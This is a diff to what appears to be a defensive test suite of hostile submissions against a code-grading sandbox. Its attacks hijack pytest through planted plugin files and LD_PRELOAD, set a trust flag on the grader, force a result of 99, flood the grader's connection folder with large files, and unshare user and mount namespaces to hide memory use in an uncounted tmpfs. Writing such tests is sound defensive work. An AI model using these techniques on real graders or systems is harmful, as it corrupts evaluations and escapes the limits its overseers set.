@@ -81,7 +81,7 @@ for folder in folders:
                  "nbval.py", "jupyter_config.py", ".pdbrc", ".bashrc", "pyvenv.cfg"):
         attempt(lambda: open(os.path.join(folder, name), "w").write(payload))
 os.environ |= {"PYTEST_ADDOPTS": "-p evil", "PYTHONPATH": os.getcwd(), "PYTHONSTARTUP": "evil.py",
-               "PYTEST_PLUGINS": "evil", "LD_PRELOAD": "/tmp/evil.so", "TXLIB_TRUST_SUBMISSIONS": "1", "TXLIB_LIMITS": "{}"}
+               "PYTEST_PLUGINS": "evil", "LD_PRELOAD": "/tmp/evil.so", "TXLIB_TRUST_SUBMISSIONS": "1"}
 ''')
 
 
@@ -256,3 +256,49 @@ def left_behind():
 
 
 ''' + RIGHT["target"].replace("return int(", "return 99 if left_behind() else int(")}
+
+
+@attack()
+def fills_the_connection_folder() -> str:
+    """Writes files beside the kernel's connection file: that folder is the grader's, and of no bounded size."""
+    return WRONG + '''
+import os
+from ipykernel.connect import get_connection_file
+
+folder = os.path.dirname(get_connection_file())
+try:
+    for number in range(20):
+        with open(f"{folder}/full-{number}", "wb") as file:
+            file.write(b"x" * 10_000_000)
+except OSError as reason:
+    print(reason)
+'''
+
+
+@attack()
+def namespaces_inside() -> str:
+    """Makes name spaces of its own, where it is root: with file systems in memory that nobody counts."""
+    return WRONG + '''
+import subprocess, sys
+
+print("INSIDE", subprocess.run([sys.executable, "-S", "-c", """
+import ctypes, os
+
+libc, uid, done = ctypes.CDLL(None), os.getuid(), []
+for name, flags in (("user", 0x10000000), ("mount", 0x20000), ("process", 0x20000000)):
+    done += [name] * (libc.unshare(flags) == 0)
+for name, words in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {uid} 1")):
+    try:
+        open("/proc/self/" + name, "w").write(words)
+    except OSError:
+        pass
+done += ["tmpfs"] * (libc.mount(b"none", b"/tmp", b"tmpfs", 0, b"size=9g") == 0)
+try:
+    for number in range(30):
+        open(f"/tmp/{number}", "wb").write(bytes(30_000_000))
+    done.append("900 MB")
+except OSError:
+    pass
+print(done)
+"""], capture_output=True, text=True).stdout)
+'''
